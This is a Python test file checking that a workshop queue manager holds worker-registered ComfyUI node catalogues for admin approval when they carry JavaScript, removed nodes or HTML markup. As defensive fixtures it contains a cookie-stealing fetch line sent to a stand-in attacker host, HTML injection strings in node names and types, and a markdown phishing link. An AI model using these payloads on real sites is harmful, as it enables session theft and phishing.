"""A leaked worker token owns nothing: what a registration publishes reaches participants' pages only
when it merely adds to the approved catalogue, or when the admin approves it; Redis keeps only the
approved version and a few waiting ones."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import httpx
import pytest

from devkit.doubles.comfyui_nodes import catalogue
from devkit.servers import wait_until
from services.queue_manager.catalogues import MAX_PENDING
from services.queue_manager.errors import WorkshopClosed
from services.queue_manager.store import Store
from tests.support.queue_manager_app import (
    ADMIN,
    ADMIN_PASSWORD,
    WORKER_AUTH,
    catalogue_registration,
    login,
    register_worker,
)

EVIL = {"evil/steal.js": "fetch('https://attacker.example/' + document.cookie)"}


def grown() -> dict[str, Any]:
    """The stock catalogue plus a custom node and a new upscale method: it only adds."""
    nodes = catalogue([])
    nodes["MyCustomNode"] = {**nodes["ImageInvert"], "name": "MyCustomNode", "display_name": "My node"}
    method = nodes["ImageScale"]["input"]["required"]["upscale_method"]
    nodes["ImageScale"]["input"]["required"]["upscale_method"] = [[*method[0], "new-method"]]
    return nodes


def served(client: httpx.Client) -> tuple[set[str], list[str]]:
    return set(client.get("/w/alice/api/object_info").json()), client.get("/w/alice/api/extensions").json()


def test_a_leaked_tokens_javascript_and_missing_nodes_wait_for_the_admin(
    alice: httpx.Client, worker: httpx.Client, app_factory: Callable[[], httpx.Client]
) -> None:
    evil = catalogue([])
    del evil["SaveImage"]  # every participant's prompt would be refused
    register_worker(app_factory(), evil, "w-leaked", "cat-evil", EVIL)
    register_worker(worker, grown(), "w1", "cat-v2")  # the real worker's update: it only adds
    wait_until(lambda: "MyCustomNode" in served(alice)[0], timeout=5, what="the additive version served")
    nodes, extensions = served(alice)
    assert "SaveImage" in nodes and extensions == ["/extensions/comfy-workshop/notice.js"]
    assert alice.get("/w/alice/extensions/evil/steal.js").status_code == 404

    admin = login(app_factory(), ADMIN, ADMIN_PASSWORD)
    state = admin.get("/api/admin/catalogues").json()
    assert state["approved"] == "cat-v2" and [c["digest"] for c in state["pending"]] == ["cat-evil"]
    offer = state["pending"][0]
    assert offer["worker_id"] == "w-leaked" and offer["removed"] == ["SaveImage"]
    assert offer["added"] == offer["changed"] == []  # against the version approved when it came
    assert offer["extensions_added"] == ["evil/steal.js"]
    approve = "/api/admin/catalogues/cat-evil/approve"
    assert alice.post(approve).status_code == 403
    assert app_factory().post(approve, headers=WORKER_AUTH).status_code == 401
    assert admin.post("/api/admin/catalogues/nope/approve").status_code == 404
    assert admin.post(approve).status_code == 204
    wait_until(lambda: "SaveImage" not in served(alice)[0], timeout=5, what="the approved version served")
    assert "/extensions/evil/steal.js" in served(alice)[1]


async def test_the_first_version_goes_live_only_without_javascript(store: Store) -> None:
    await store.register(catalogue_registration("w1", "cat-js", catalogue([]), {"p/x.js": "1"}))
    assert (await store.catalogue_state()).approved == ""
    await store.register(catalogue_registration("w2", "cat-plain", catalogue([])))
    state = await store.catalogue_state()
    assert state.approved == "cat-plain" and [c.digest for c in state.pending] == ["cat-js"]


async def test_a_version_that_removes_an_option_or_changes_a_node_waits(store: Store) -> None:
    await store.register(catalogue_registration("w1", "cat-v1", grown()))
    fewer = grown()
    fewer["ImageScale"]["input"]["required"]["upscale_method"] = [["nearest-exact"]]
    changed = grown()
    changed["ImageInvert"]["output"] = ["MASK"]
    await store.register(catalogue_registration("w2", "cat-fewer", fewer))
    await store.register(catalogue_registration("w3", "cat-changed", changed))
    state = await store.catalogue_state()
    assert state.approved == "cat-v1"
    assert {c.digest: c.changed for c in state.pending} == {
        "cat-fewer": ["ImageScale"],
        "cat-changed": ["ImageInvert"],
    }


def marked_up() -> dict[str, Any]:
    """``grown()`` plus node classes whose names the stock frontend would build elements from: it
    shows a node's display name, name and category as HTML in the node search and the canvas menu."""
    nodes = grown()
    nodes["Upscale<img src=/x>"] = {
        **nodes["ImageInvert"],
        "name": "Upscale<img src=/x>",
        "display_name": "Up",
    }
    nodes["Phish"] = {**nodes["ImageInvert"], "name": "Phish", "display_name": '<a href="//evil">Log in</a>'}
    nodes["Menu"] = {**nodes["ImageInvert"], "name": "Menu", "category": "image/<b>new</b>"}
    method = nodes["ImageScale"]["input"]["required"]["upscale_method"]
    nodes["ImageScale"]["input"]["required"]["upscale_method"] = [[*method[0], "<i>model</i>"]]
    return nodes


async def test_a_version_whose_new_nodes_carry_markup_waits_for_the_admin(store: Store) -> None:
    """An additive version (a leaked token's) whose new node classes carry markup in their name,
    display name or category would put its elements on every participant's page: it waits."""
    await store.register(catalogue_registration("w1", "cat-v1", grown()))
    await store.register(catalogue_registration("w2", "cat-marked", marked_up()))
    state = await store.catalogue_state()
    assert state.approved == "cat-v1"
    [offer] = state.pending
    assert offer.markup == ["ImageScale", "Menu", "Phish", "Upscale<img src=/x>"]
    assert offer.added == ["Menu", "Phish", "Upscale<img src=/x>"] and offer.changed == []


async def test_a_version_whose_new_nodes_have_slot_types_with_markup_waits(store: Store) -> None:
    """LiteGraph titles a slot's right-click menu with the slot's type as HTML (and lists types in its
    search box's filter so): a new node whose input or output type holds a tag waits too."""
    nodes = grown()
    nodes["Out"] = {**nodes["ImageInvert"], "name": "Out", "output": ['<a href="//evil">Log in</a>']}
    inputs = {"required": {"x": ['<img src="/x">', {}]}}
    nodes["In"] = {**nodes["ImageInvert"], "name": "In", "input": inputs, "input_order": {"required": ["x"]}}
    await store.register(catalogue_registration("w1", "cat-v1", grown()))
    await store.register(catalogue_registration("w2", "cat-types", nodes))
    state = await store.catalogue_state()
    assert state.approved == "cat-v1"
    [offer] = state.pending
    assert offer.markup == ["In", "Out"]


async def test_a_first_version_with_markup_waits_too(store: Store) -> None:
    await store.register(catalogue_registration("w1", "cat-marked", marked_up()))
    state = await store.catalogue_state()
    assert state.approved == "" and [c.digest for c in state.pending] == ["cat-marked"]


async def test_a_first_version_whose_combos_compare_with_lone_angle_brackets_goes_live(store: Store) -> None:
    """A comparison node's operators ("<", ">=", as in ComfyUI's own test pack) are text, not markup:
    the first version went to the admin for them, and the workspaces offered no node at all."""
    nodes = grown()
    nodes["Compare"] = {
        **nodes["ImageInvert"],
        "name": "Compare",
        "display_name": "Compare (a < b)",
        "input": {"required": {"operation": [["==", "!=", "<", ">", "<=", ">="]]}},
    }
    await store.register(catalogue_registration("w1", "cat-compare", nodes))
    state = await store.catalogue_state()
    assert state.approved == "cat-compare" and state.pending == []


async def test_only_the_approved_and_the_newest_waiting_versions_stay_in_redis(store: Store) -> None:
    await store.redis.set(store.keys.catalogue("cat-from-before"), "{}")  # stored before the rule
    await store.register(catalogue_registration("w0", "cat-base", catalogue([])))
    for index in range(MAX_PENDING + 6):  # a leaked token registering under ever new hashes
        await store.register(
            catalogue_registration(f"w{index + 1}", f"cat-{index}", catalogue([]), {"p/x.js": str(index)})
        )
    kept = [key async for key in store.redis.scan_iter(f"{store.prefix}:catalogue:*")]
    newest = {f"cat-{index}" for index in range(6, MAX_PENDING + 6)}
    assert {key.rsplit(":", 1)[1] for key in kept} == {"cat-base", *newest}
    state = await store.catalogue_state()
    assert state.approved == "cat-base" and {c.digest for c in state.pending} == newest
    extension_sets = [key async for key in store.redis.scan_iter(f"{store.prefix}:catalogue_ext:*")]
    assert len(extension_sets) == MAX_PENDING


async def test_an_approval_after_the_evening_snapshot_is_refused_not_lost(store: Store) -> None:
    """The snapshot holds the approved version as it was: an approval after it would vanish with the
    Redis, and the worker would offer the version again the next morning as if never approved."""
    await store.register(catalogue_registration("w0", "cat-base", catalogue([])))
    await store.register(catalogue_registration("w1", "cat-js", catalogue([]), {"p/x.js": "1"}))
    await store.redis.set(store.keys.closed, "1")  # the evening's save took its snapshot
    with pytest.raises(WorkshopClosed):
        await store.approve_catalogue("cat-js")
    state = await store.catalogue_state()
    assert state.approved == "cat-base" and [c.digest for c in state.pending] == ["cat-js"]
    await store.resume()  # the morning (or the organizer's Resume): the same approval is taken
    await store.approve_catalogue("cat-js")
    assert (await store.catalogue_state()).approved == "cat-js"


def test_the_admin_cannot_approve_a_version_whose_texts_carry_markup(
    alice: httpx.Client, worker: httpx.Client, app_factory: Callable[[], httpx.Client]
) -> None:
    """The CSP stops scripts, not elements: an approved version whose node names or combo options
    carry markup would put its fake login link in every participant's node search and combo lists.
    The admin's approval is refused (409) naming the classes and the fix, and nothing changes."""
    register_worker(app_factory(), marked_up(), "w-leaked", "cat-marked")
    admin = login(app_factory(), ADMIN, ADMIN_PASSWORD)
    refused = admin.post("/api/admin/catalogues/cat-marked/approve")
    assert refused.status_code == 409, refused.text
    message = refused.json()["detail"]
    assert "Phish" in message and "Menu" in message and "custom node" in message
    assert "Phish" not in served(alice)[0]
    state = admin.get("/api/admin/catalogues").json()
    assert state["approved"] == "cat-v1" and [c["digest"] for c in state["pending"]] == ["cat-marked"]


def test_a_description_that_would_render_a_link_is_served_as_text(
    alice: httpx.Client, worker: httpx.Client
) -> None:
    """The frontend renders node descriptions as markdown: one with a link, a bare URL or a tag is
    served as a code block fenced longer than any backtick run in it, so nothing in it closes the
    block; a plain description is served as the worker sent it."""
    nodes = grown()
    hostile = "````\n[log in again](https://evil.example) www.evil.example <a href=x>"
    nodes["Phish"] = {**nodes["ImageInvert"], "name": "Phish", "description": hostile}
    nodes["Plain"] = {**nodes["ImageInvert"], "name": "Plain", "description": "Inverts: 1 - x, per channel."}
    register_worker(worker, nodes, "w1", "cat-v2")
    wait_until(lambda: "Phish" in served(alice)[0], timeout=5, what="the additive version served")
    info = alice.get("/w/alice/api/object_info").json()
    assert info["Phish"]["description"] == f"`````\n{hostile}\n`````"
    assert info["Plain"]["description"] == "Inverts: 1 - x, per channel."
    assert alice.get("/w/alice/api/object_info/Phish").json()["Phish"]["description"].startswith("`````\n")
